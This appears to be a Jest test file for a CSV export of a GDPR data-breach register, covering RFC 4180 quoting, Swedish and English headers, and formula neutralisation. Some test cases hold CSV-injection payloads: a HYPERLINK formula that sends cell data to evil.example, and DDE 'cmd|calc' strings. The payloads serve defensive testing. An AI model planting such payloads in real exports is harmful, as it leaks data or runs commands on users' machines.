import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { csvField, neutraliseFormula, toCsv } from '../../../libs/domain/src/register/csv.js';
import { registerToCsv } from '../../../libs/domain/src/register/register-csv.js';
import { registerEntry } from './register-fixtures.js';

/** A strict RFC 4180 reader: CRLF-terminated records, quotes only around whole fields. */
function parseCsv(text: string, delimiter = ','): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  let fieldStart = true;
  while (i < text.length) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (char === '"') {
        quoted = false;
        i += 1;
        if (text[i] !== delimiter && text[i] !== '\r') throw new Error(`text after a closing quote at ${i}`);
      } else {
        field += char;
        i += 1;
      }
    } else if (char === '"') {
      if (!fieldStart) throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
      fieldStart = false;
      i += 1;
    } else if (char === delimiter) {
      record.push(field);
      field = '';
      fieldStart = true;
      i += 1;
    } else if (char === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`bare CR at ${i}`);
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      fieldStart = true;
      i += 2;
    } else if (char === '\n') {
      throw new Error(`bare LF at ${i}`);
    } else {
      field += char;
      fieldStart = false;
      i += 1;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || record.length > 0) throw new Error('last record not terminated by CRLF');
  return records;
}

const column = (csv: string, name: string): string[] => {
  const [header, ...rows] = parseCsv(csv);
  const index = header.indexOf(name);
  if (index < 0) throw new Error(`no column ${name} in ${header.join(' | ')}`);
  return rows.map((row) => row[index]);
};

describe('CSV fields (RFC 4180)', () => {
  it('leaves plain text alone and quotes fields with a quote, comma, CR or LF, doubling quotes', () => {
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hej"')).toBe('"say ""hej"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField('a;b')).toBe('a;b');
    expect(csvField('a;b', ';')).toBe('"a;b"');
  });

  it('ends every record with CRLF, the last one included', () => {
    expect(toCsv([['a', 'b'], ['c', 'd']])).toBe('a,b\r\nc,d\r\n');
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")'],
    ['+46 8 123 45 67'],
    ['-2+3+cmd|\' /C calc\'!A0'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('neutralises a cell a spreadsheet would run as a formula: %p', (value) => {
    expect(neutraliseFormula(value)).toBe(`'${value}`);
    const [[cell]] = parseCsv(toCsv([[value]]));
    expect(cell).toBe(`'${value}`);
  });

  it('does not touch cells where the formula character is not first', () => {
    expect(neutraliseFormula('a=b')).toBe('a=b');
    expect(neutraliseFormula(' =1')).toBe(' =1');
    expect(neutraliseFormula('2026-11-24T08:00:00.000Z')).toBe('2026-11-24T08:00:00.000Z');
  });

  it('round-trips any text through a strict reader (after the formula prefix)', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'grapheme-composite' }), { minLength: 1, maxLength: 5 }), { maxLength: 5 }), (rows) => {
        const parsed = parseCsv(toCsv(rows));
        expect(parsed).toEqual(rows.map((row) => row.map(neutraliseFormula)));
      }),
    );
    fc.assert(
      fc.property(fc.array(fc.constantFrom('a', ',', ';', '"', '\r', '\n', '=', ' ', 'å'), { maxLength: 12 }).map((chars) => chars.join('')), (value) => {
        expect(parseCsv(toCsv([[value, value]]))).toEqual([[neutraliseFormula(value), neutraliseFormula(value)]]);
        expect(parseCsv(toCsv([[value, value]], { delimiter: ';' }), ';')).toEqual([[neutraliseFormula(value), neutraliseFormula(value)]]);
      }),
    );
  });
});

describe('the register as CSV', () => {
  it('starts with a header row of readable English column names', () => {
    const [header] = parseCsv(registerToCsv([], 'en'));
    expect(header.slice(0, 4)).toEqual(['Reference', 'Title', 'Status', 'Occurred']);
    expect(header).toEqual(
      expect.arrayContaining(['Facts of the breach', 'Likely consequences', 'Measures taken or proposed', 'Risk outcome', 'Reports', 'Complete', 'Missing']),
    );
  });

  it('has Swedish column names and values in Swedish', () => {
    const csv = registerToCsv([registerEntry()], 'sv');
    const [header, row] = parseCsv(csv);
    expect(header.slice(0, 4)).toEqual(['Referens', 'Rubrik', 'Status', 'Inträffade']);
    expect(header).toEqual(
      expect.arrayContaining(['Beskrivning av incidenten', 'Sannolika konsekvenser', 'Vidtagna eller planerade åtgärder', 'Riskbedömning', 'Komplett', 'Saknas']),
    );
    expect(header).toHaveLength(row.length);
    expect(column(csv, 'Status')).toEqual(['Avslutad']);
    expect(column(csv, 'Vår roll')).toEqual(['Personuppgiftsansvarig']);
    expect(column(csv, 'Riskbedömning')).toEqual(['Risk']);
    expect(column(csv, 'Komplett')).toEqual(['Ja']);
    expect(column(csv, 'Orsak')).toEqual(['Felskickat meddelande']);
    expect(column(csv, 'Anmälningar')).toEqual(['Anmälan till IMY (artikel 33): första anmälan, inlämnad 2026-11-24T11:00:00.000Z (ref. IMY-2026-1234)']);
  });

  it('calls the no-risk outcome "risk osannolik", never "ingen risk"', () => {
    const entry = registerEntry();
    const unlikely = { ...entry, assessment: { ...entry.assessment!, outcome: 'no-risk' as const } };
    expect(column(registerToCsv([unlikely], 'sv'), 'Riskbedömning')).toEqual(['Risk osannolik']);
    expect(column(registerToCsv([unlikely], 'en'), 'Risk outcome')).toEqual(['Risk unlikely']);
  });

  it('has one row per incident, oldest awareness first, lists joined with "; "', () => {
    const later = registerEntry({ incidentId: 'b', reference: 'INC-2026-0009', awareAt: '2026-11-26T08:00:00.000Z' });
    const earlier = registerEntry({ incidentId: 'a', reference: 'INC-2026-0008', awareAt: '2026-11-25T08:00:00+01:00' });
    const csv = registerToCsv([later, earlier], 'en');
    expect(column(csv, 'Reference')).toEqual(['INC-2026-0008', 'INC-2026-0009']);
    expect(column(csv, 'Categories of personal data')).toEqual(['contact; identity', 'contact; identity']);
    expect(column(csv, 'Decisions')[0]).toBe(
      '2026-11-24T09:00:00.000Z Rolf Responder: Drafted the initial report; 2026-11-24T10:00:00.000Z Anna Approver: Approved the initial report',
    );
  });

  it('quotes text with commas, quotes and line breaks, and uses CRLF between records', () => {
    const entry = registerEntry({ title: 'Lost laptop, "unencrypted"', summary: 'Line one.\nLine two.' });
    const csv = registerToCsv([entry], 'en');
    expect(csv).toContain('"Lost laptop, ""unencrypted"""');
    expect(csv).toContain('"Line one.\nLine two."');
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(3); // header, a row with an LF inside quotes, the empty rest
    expect(column(csv, 'Title')).toEqual(['Lost laptop, "unencrypted"']);
    expect(column(csv, 'Facts of the breach')).toEqual(['Line one.\nLine two.']);
  });

  it('neutralises formulas typed into any field of an entry', () => {
    const entry = registerEntry({
      title: '=HYPERLINK("https://evil.example","x")',
      summary: '@SUM(1)',
      effects: '+1',
      remedialAction: '-1',
      delayReasons: ['=cmd|calc'],
      decisions: [{ at: '2026-11-24T09:00:00.000Z', by: '=Eve', what: 'x' }],
    });
    const csv = registerToCsv([entry], 'en');
    expect(column(csv, 'Title')).toEqual([`'=HYPERLINK("https://evil.example","x")`]);
    expect(column(csv, 'Facts of the breach')).toEqual(["'@SUM(1)"]);
    expect(column(csv, 'Likely consequences')).toEqual(["'+1"]);
    expect(column(csv, 'Measures taken or proposed')).toEqual(["'-1"]);
    expect(column(csv, 'Reasons for delay')).toEqual(["'=cmd|calc"]);
    for (const row of parseCsv(csv)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves unknown values empty and says when the time of the breach is unknown or a range', () => {
    const unknown = registerEntry({ occurredAt: null, containedAt: null, cause: null, approxSubjects: null, assessment: null, closedAt: null });
    const range = registerEntry({ incidentId: 'z', occurredAt: { from: '2026-11-20T00:00:00.000Z', to: '2026-11-22T00:00:00.000Z' } });
    const en = registerToCsv([unknown, range], 'en');
    expect(column(en, 'Occurred')).toEqual(['Unknown', '2026-11-20T00:00:00.000Z/2026-11-22T00:00:00.000Z']);
    expect(column(en, 'Contained')[0]).toBe('');
    expect(column(en, 'Cause')[0]).toBe('');
    expect(column(en, 'Approximate number of data subjects')).toEqual(['', '2000']);
    expect(column(en, 'Risk outcome')[0]).toBe('');
    expect(column(registerToCsv([unknown], 'sv'), 'Inträffade')).toEqual(['Okänt']);
  });

  it('spells out what an incomplete entry lacks, in the language', () => {
    const entry = registerEntry({ complete: false, missing: ['effects', 'track:gdpr-art34'] });
    expect(column(registerToCsv([entry], 'sv'), 'Saknas')).toEqual([
      'Sannolika konsekvenser; Anmälan eller beslut om att anmälan inte krävs: Information till de registrerade (artikel 34)',
    ]);
    expect(column(registerToCsv([entry], 'en'), 'Complete')).toEqual(['No']);
  });

  it('marks late reports and lists not-required decisions', () => {
    const entry = registerEntry({
      filings: [
        { track: 'gdpr-art33', kind: 'supplement', status: 'approved', filedAt: null, reference: null, late: null },
        { track: 'gdpr-art33', kind: 'initial', status: 'filed', filedAt: '2026-11-28T09:00:00.000Z', reference: null, late: true },
      ],
      notRequired: [{ track: 'gdpr-art34', reason: 'Art. 34(3)(a)', decidedBy: 'Dana DPO', decidedAt: '2026-11-25T08:00:00.000Z' }],
    });
    const csv = registerToCsv([entry], 'en');
    expect(column(csv, 'Reports')).toEqual([
      'Notification to IMY (Art. 33): initial report, filed 2026-11-28T09:00:00.000Z [late]; ' +
        'Notification to IMY (Art. 33): supplement, approved',
    ]);
    expect(column(csv, 'Decided that no report is required')).toEqual([
      'Communication to the data subjects (Art. 34): Art. 34(3)(a) (Dana DPO, 2026-11-25T08:00:00.000Z)',
    ]);
  });

  it('adds a UTF-8 byte order mark for Excel only when asked', () => {
    const withBom = registerToCsv([registerEntry()], 'sv', { bom: true });
    const without = registerToCsv([registerEntry()], 'sv');
    expect(withBom.charCodeAt(0)).toBe(0xfeff);
    expect(Buffer.from(withBom, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(withBom.slice(1)).toBe(without);
    expect(without.startsWith('Referens,')).toBe(true);
  });

  it('can use a semicolon for Excel with Swedish regional settings', () => {
    const csv = registerToCsv([registerEntry()], 'sv', { delimiter: ';', bom: true });
    const rows = parseCsv(csv.slice(1), ';');
    expect(rows[0][0]).toBe('Referens');
    expect(rows[1][rows[0].indexOf('Kategorier av personuppgifter')]).toBe('contact; identity');
  });
});
